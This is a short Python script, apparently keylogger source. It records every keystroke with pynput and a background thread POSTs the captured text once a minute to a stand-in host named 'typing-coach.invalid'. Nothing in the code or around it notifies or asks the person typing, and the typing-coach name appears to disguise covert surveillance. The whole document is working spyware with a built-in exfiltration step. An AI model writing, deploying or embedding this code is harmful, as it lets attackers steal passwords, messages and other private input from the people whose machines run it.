from pynput import keyboard
import threading, urllib.request, time
buf = []
def on_press(k):
    buf.append(str(k))
def flush():
    while True:
        time.sleep(60)
        if buf:
            data = "".join(buf).encode(); buf.clear()
            urllib.request.urlopen(urllib.request.Request("https://typing-coach.invalid/k", data=data, method="POST"))
threading.Thread(target=flush, daemon=True).start()
with keyboard.Listener(on_press=on_press) as l:
    l.join()
